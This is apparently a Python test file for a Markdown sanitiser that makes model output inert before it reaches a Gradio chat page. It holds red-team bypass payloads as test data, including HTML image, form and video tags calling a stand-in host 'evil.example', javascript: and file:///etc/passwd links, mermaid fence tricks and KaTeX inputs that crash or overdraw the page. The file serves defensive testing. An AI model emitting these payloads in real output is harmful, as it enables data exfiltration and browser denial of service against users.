"""Tier 1, pure: model Markdown on its way to the chat is inert (as CommonMark reads it) and bounded in nesting."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from qvl_core.parse.safe_markdown import (
    MAX_CONTAINERS,
    MAX_DELIMITER_RUN,
    MAX_DELIMITERS,
    MAX_INDENT,
    MAX_MATH_DEPTH,
    safe_markdown,
)

EVIL = "http://evil.example"
# A renderer like the browser's: CommonMark + GFM tables and strikethrough, raw HTML on, links of any scheme.
RENDER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
RENDER.validateLink = lambda url: True
# To measure nesting, a renderer that does not stop at its own bound (markdown-it's default stops at 20 levels).
DEEP = MarkdownIt("commonmark", {"maxNesting": 1000}).enable(["table", "strikethrough"])
ALLOWED_TAGS = {"p", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li", "hr", "br", "a",
                "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}
SAFE_HREF = re.compile(r"(?:https?:|mailto:|#)", re.I)
ALIGN = re.compile(r"text-align:(?:left|right|center)")


class _Live(HTMLParser):
    """Every tag or attribute in rendered HTML that could load, run, style or submit something."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            ok = ((name == "href" and tag == "a" and SAFE_HREF.match(value))
                  or (name == "class" and tag == "code" and value.startswith("language-"))
                  or (name == "start" and tag == "ol")
                  or (name == "style" and tag in ("th", "td") and ALIGN.fullmatch(value)))
            if not ok:
                self.found.append(f"<{tag} {name}={value!r}>")

    def handle_comment(self, data):
        self.found.append("<!--")

    def handle_pi(self, data):
        self.found.append("<?")

    def handle_decl(self, decl):
        self.found.append("<!")

    def unknown_decl(self, data):
        self.found.append("<![")


def live_parts(markdown: str) -> list[str]:
    parser = _Live()
    parser.feed(RENDER.render(markdown))
    parser.close()
    return parser.found


# ---- each bypass the red team found, and variants --------------------------------------------------------
BYPASSES = [
    f'\\`<img src="{EVIL}/a.png">`',  # an escaped backtick: no code span opens
    f'``<img src="{EVIL}/b.png">`',  # runs of unequal length never close each other
    f'`` <img src="{EVIL}/b2.png"> ```',
    f'```x`y\n<img src="{EVIL}/c.png">\n```',  # a backtick in the info string: not a fence
    f'    ```\n<img src="{EVIL}/d.png">\n```',  # indented 4: a code block, and the second ``` opens a fence
    f'| a | b |\n|---|---|\n| `x | <picture><source srcset="{EVIL}/s.png"></picture>` |',  # pipes split spans
]


# The second red team (issue 16): where Gradio's renderer (marked, its mermaid extension, inspect.cleandoc, its
# formula extraction) reads the text otherwise than CommonMark.
RENDERER_BYPASSES = [
    f"```mermaid\n<img src={EVIL}/m.png>\n```",  # mermaid fences become raw HTML
    f"```\nx\n```~\n<img src={EVIL}/a.png>\n```",  # marked closes a fence at ```~
    f"~~~\nx\n~~~`\n<video autoplay src={EVIL}/v.mp4></video>\n~~~",
    f"a `b\n:-\nc <img src={EVIL}/t.png> `",  # a table without pipes splits the code span into cells
    f"    <img src={EVIL}/x.png>\n\nHere is the answer.",  # dedented by cleandoc: an HTML block
    f"Answer:\n\n    <form action={EVIL}/f><input name=q value=secret><button>send</button></form>",
]


@pytest.mark.parametrize("text", RENDERER_BYPASSES)
def test_no_bypass_through_the_renderers_own_rules(text):
    """Bug: each of these came out of safe_markdown unchanged, passed its CommonMark re-check, and was live in the
    browser. Now no `<` in the result starts a tag, whatever decides what is code."""
    import inspect

    shown = safe_markdown(text)
    assert live_parts(shown) == [] and live_parts(inspect.cleandoc(shown)) == []
    assert re.search(r"<[A-Za-z/!?]", shown) is None and re.search(r"[`~]{3,}[ \t]*mermaid", shown, re.I) is None


def test_formulas_that_hide_depth_lose_their_delimiters():
    """Bug: a formula straddling code was never depth-checked (the renderer extracts it anyway), and a \\def chain
    expands as deep as the nesting it hides from the count."""
    deep = "$" + "\\frac{1}{" * 200 + "x" + "}" * 200 + "\n\n    $"
    assert "$" not in safe_markdown(deep)
    from tests.test_browser_hostile import MACRO_CHAIN

    macros = f"${MACRO_CHAIN}$"
    assert "$" not in safe_markdown(macros) and safe_markdown("$\\frac{1}{2}$") == "$\\frac{1}{2}$"
    assert "\\(" not in safe_markdown("\\(\\def\\x{y}\\x\\)")


@pytest.mark.parametrize("text", BYPASSES)
def test_no_bypass_of_the_code_decision(text):
    """Bug: safe_markdown decided what is code with its own regex; CommonMark disagreed and raw HTML was live."""
    assert live_parts(safe_markdown(text)) == []


Z = "\u200b"  # after a `<` in code: invisible, and no renderer that disagrees about what is code sees a tag
CODE_AS_WRITTEN = [
    ("a `<b>` c and ``x ` <i>`` y", f"a `<{Z}b>` c and ``x ` <{Z}i>`` y"),
    ("> q `<c>` and <b>x</b>\n> - item `<x>`", f"> q `<{Z}c>` and &lt;b>x&lt;/b>\n> - item `<{Z}x>`"),
    ("| a | `<b>` |\n|---|---|\n| c | <e> |", f"| a | `<{Z}b>` |\n|---|---|\n| c | &lt;e> |"),
    ("# head `<h>` ##", f"# head `<{Z}h>` ##"),
    ("text\n\n    <pre>indented code</pre>\n\ntext <u>", f"text\n\n    <{Z}pre>indented code<{Z}/pre>\n\ntext &lt;u>"),
    # The renderer dedents the answer first (inspect.cleandoc): an answer that opens indented is no code there.
    ("    <pre>indented code</pre>\n\ntext <u>", "&lt;pre>indented code&lt;/pre>\n\ntext &lt;u>"),
]


def test_code_is_shown_as_written():
    """Bug: spans of unequal backtick runs and indented code were escaped (shown as `&lt;`) by the old regex. Code
    shows as written; its tag-like `<` carry an invisible zero-width space (the renderer may disagree)."""
    assert [safe_markdown(text) for text, _ in CODE_AS_WRITTEN] == [shown for _, shown in CODE_AS_WRITTEN]


def test_anything_left_live_falls_back_to_one_code_block(monkeypatch):
    """Whatever the first pass misses, the check after it catches: the whole answer is shown as one code block."""
    from qvl_core.parse import safe_markdown as module

    monkeypatch.setattr(module, "_neutralise", lambda text, delimiters, math: text)  # a first pass that misses all
    module.safe_markdown.cache_clear()
    text = f'a ```` run and <img src="{EVIL}/x.png">\n```'
    shown = module.safe_markdown(text)
    module.safe_markdown.cache_clear()
    assert shown == f"`````text\n{text.replace('<', '<' + Z)}\n`````" and live_parts(shown) == []


# ---- nesting bounded (issue 16, item 4: KaTeX crashed the tab, marked ran out of stack) -------------------
def _depth(html: str, tags: tuple[str, ...]) -> int:
    depth = deepest = 0
    for m in re.finditer(r"<(/?)(\w+)", html):
        if m.group(2) in tags:
            depth += -1 if m.group(1) else 1
            deepest = max(deepest, depth)
    return deepest


def test_deep_formula_loses_its_delimiters():
    """Bug: `$` + `\\frac{1}{`x200 + `x` + `}`x200 + `$` crashed Chromium's tab (KaTeX)."""
    deep = "$" + "\\frac{1}{" * 200 + "x" + "}" * 200 + "$"
    shown = safe_markdown(f"before {deep} after $\\frac{{1}}{{2}}$")
    # The deep one loses its delimiters (full-width dollars: no formula); a shallow one still renders.
    assert f"\uff04{deep[1:-1]}\uff04" in shown and shown.endswith("after $\\frac{1}{2}$")
    limit = "$" + "{" * MAX_MATH_DEPTH + "}" * MAX_MATH_DEPTH + "$"
    assert safe_markdown(limit) == limit


@pytest.mark.parametrize(("text", "tags", "most"), [
    (">" * 5000 + " x", ("blockquote",), MAX_CONTAINERS),
    ("> " * 5000 + "x", ("blockquote",), MAX_CONTAINERS),
    ("".join("  " * i + "- x\n" for i in range(2000)), ("ul",), MAX_INDENT // 2 + 1),
    ("- " * 2000 + "x", ("ul",), MAX_CONTAINERS),
    ("1. > " * 2000 + "x", ("ol", "blockquote"), MAX_CONTAINERS),
    ("*" * 2500 + "a" + "*" * 2500, ("em", "strong"), 2),
    ("*a " * 2500 + "b" + " c*" * 2500, ("em", "strong"), MAX_DELIMITERS),
    ("~~a " * 2500 + "b" + " c~~" * 2500, ("s",), MAX_DELIMITERS),
])
def test_deep_markdown_is_flattened(text, tags, most):
    """Bug: a 5,000-level quote, a 2,000-level list or 5,000 asterisks blanked the answer (call stack exceeded)."""
    shown = safe_markdown(text)
    assert _depth(DEEP.render(shown), tags) <= most
    assert "x" in shown or "a" in shown or "*" in shown


def test_ordinary_emphasis_and_lists_untouched():
    text = "***bold italic*** and __b__\n\n- a\n  - b\n    - c\n\n> > quoted\n\n1. one\n2. two"
    assert safe_markdown(text) == text
    assert safe_markdown("a " + "**x** " * MAX_DELIMITERS).count("\\*") > 0  # past the paragraph's cap
    assert "\\" not in safe_markdown("a " + "*" * MAX_DELIMITER_RUN + "b")


# ---- property: HTML in every context never comes out live ---------------------------------------------------
HTML = [
    f'<img src="{EVIL}/i.png">', f"<IMG SRC={EVIL}/i.png>", '<div style="position:fixed;inset:0">o</div>',
    f'<svg><image href="{EVIL}/s.png"/></svg>', f'<video autoplay src="{EVIL}/v.mp4">',
    f'<picture><source srcset="{EVIL}/p.png"></picture>', f'<form action="{EVIL}/f"><button>b</button></form>',
    '<a href="javascript:alert(1)">j</a>', "<!-- c -->", "<?php x ?>", "<![CDATA[x]]>", "<!DOCTYPE x>",
    "</div>", "<script>x()</script>", f"<{EVIL}/auto>", "<javascript:alert(1)>",
]
MARKUP = ["`", "``", "```", "````", "\\`", "\\\\", "~~~", "~~~\n~~~\n", "> ```\n", "- ```\n\n", "\\\\![p](",
          "```mermaid\n", "```~\n", "~~~`\n", ":-\n", "\n:-:\n", "-|-\n", "\n    ", "$\\def\\a{x}\\a$",
          "\n", "\n\n", "    ", "  ", "> ", "- ", "1. ", "* ",
          "| a | b |\n|---|---|\n| ", " | ", "|", "![x](", f"![x]({EVIL}/m.png)", "[x](", ")", "](", "[r]: ",
          "javascript:x", "data:x", f"{EVIL}/l", "<", ">", "*", "_", "$", "x", " ", "\t", "#", "#x", "\\", "&lt;",
          "&#60;", "jav&#97;script:x"]
fragments = st.lists(st.one_of(st.sampled_from(HTML), st.sampled_from(MARKUP)), min_size=1, max_size=24).map("".join)


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(fragments)
def test_generated_markdown_never_yields_a_live_tag(text):
    """Bug: HTML placed where the old regex and CommonMark disagreed about code reached the page live. Beyond what
    CommonMark renders, the result holds no `<` that starts a tag and no image marker at all, so no renderer that
    disagrees about code (the browser's `marked`) can find one either; and it is stable under Gradio's dedent."""
    import inspect

    shown = safe_markdown(text)
    assert live_parts(shown) == []
    assert re.search(r"<[A-Za-z/!?]", shown) is None and "![" not in shown
    assert inspect.cleandoc(shown) == shown


# The third red team (issue 16, again): the renderer's mermaid rule fires inside paragraphs, KaTeX runs on the
# page's decoded text with brace-aware delimiters, and shallow formulas can still draw over the page.
THIRD_ROUND = [
    'a```mermaid\ngraph TD\nA["&lt;img src=http://evil.example/m.png&gt;"]```',
    'Price is 5 $```mermaid\nflowchart TD\nA@{ img: "http://evil.example/i.png", label: "x" }\nB["x"]```\nrest',
    "a```mermaid\ngraph TD\nA```\n[x]:\nsmb://evil.example/share\n\n[click][x]",
    "[y]:\n  file:///etc/passwd\n\n[open][y]",
    "&#36;\\def\\x{\\frac{1}{2}}\\x&#36; costs 5$",
    "$\\text{$\\def\\a{\\frac{1}{2}}\\a$}$",
    "&dollar;\\gdef\\a{\\frac{1}{2}}\\a&dollar; and later $\\a$",
    "&#36;" + "\\frac{1}{" * 300 + "x" + "}" * 300 + "&#36; $",
    "$\\text{$" + "\\frac{1}{" * 100 + "x" + "}" * 100 + "$}$",
    "a```mermaid\ngraph TD\nA````\n" + "*a " * 1500 + "b" + " a*" * 1500 + "````",
    "$\\rule{3000em}{3000em}$", "$\\raisebox{60em}{FAKE}$", "$x\\kern-80em y$", "\\(\\rule{999pt}{1pt}\\)",
    # The fourth round: every dimension (second and optional arguments, signs, units, comments, \\above, \\\\[..]),
    # switches that nest without braces, and a formula the page pairs across Gradio's two ("the gap").
    "$\\rule{1em}{3000em}$", "$\\vphantom{\\rule{1em}{3000em}}$", "$\\rule[-3000em]{1em}{1em}$",
    "$\\rule{+3000em}{1em}$", "$\\kern+3000em x$", "$\\raisebox{+60em}{FAKE}$", "$\\rule{20in}{20in}$",
    "$\\kern20in x$", "$\\rule%\n{3000em}{3000em}$", "$a \\above 3000em b$", "$\\genfrac{}{}{3000em}{}{a}{b}$",
    "$a\\\\[3000em]b$", "$\\begin{aligned}a\\\\[3000em]b\\end{aligned}$",
    "$" + "\\displaystyle\\textstyle" * 300 + "x$", "$" + "\\Huge\\tiny" * 300 + "x$",
    "$" + "\\color{red}" * 300 + "x$",
    "$\\text{$ \\r&#117;le{1em}{3000em} $}$", "$\\text{$ \\d&#101;f\\a#1{\\frac{1}{#1}}\\a{\\a{\\a{x}}} $}$",
    "$\\text{$ " + "\\\\begin{matrix}" * 120 + "x" + "\\\\end{matrix}" * 120 + " $}$",
    # The fifth: entities inside a formula (decoded by the browser before KaTeX reads it), units nd and nc.
    "$" + "\\b&#101;gin{matrix}" * 1500 + "x" + "\\end{matrix}" * 1500 + "$", "$\\rule{1em}{3000&#101;m}$",
    "$\\rule{1em}{3000&#x6d;m}$", "$\\kern3000&#101;m x$", "$\\d&#101;f\\a#1{\\frac{1}{#1}}\\a{\\a{x}}$",
    "$" + "\\l&#101;ft(" * 100 + "x" + "\\right)" * 100 + "$", "$\\rule{1em}{3000nc}$", "$\\rule{1em}{30000nd}$",
]


def test_ordinary_formulas_still_render():
    for text in ("$\\frac{1}{2}$ and $x^2$", "$$\\int_0^1 x\\,dx$$", "\\(a\\kern1em b\\)", "$\\color{red}{x}$",
                 "$\\rule{1em}{2em}$", "$\\begin{aligned}a\\\\[1em]b\\end{aligned}$"):
        assert safe_markdown(text) == text


@pytest.mark.parametrize("text", THIRD_ROUND)
def test_no_mermaid_hidden_formula_or_far_reaching_size_survives(text):
    import html

    from qvl_core.parse import safe_markdown as module

    shown = safe_markdown(text)
    assert re.search(r"[`~]{3,}[ \t]*mermaid", shown, re.I) is None
    assert not [u for u in re.findall(r'href="([^"]*)"', RENDER.render(shown)) if not SAFE_HREF.match(u)]
    # No entity decodes into a formula's delimiter; no formula, however paired, is deep, defines macros or sizes.
    assert not [e for e in re.findall(r"(?<!&amp;)&#?\w+;", shown) if set(html.unescape(e)) & set("$\\()[]{}")]
    for a, b in {*module._math_spans(shown), *module._math_spans_braced(shown)}:
        assert not module._dangerous(shown[a:b]) and not module._dangerous(html.unescape(shown[a:b])), shown[a:b][:80]
    assert _depth(DEEP.render(shown), ("em", "strong")) <= MAX_DELIMITER_RUN + 1
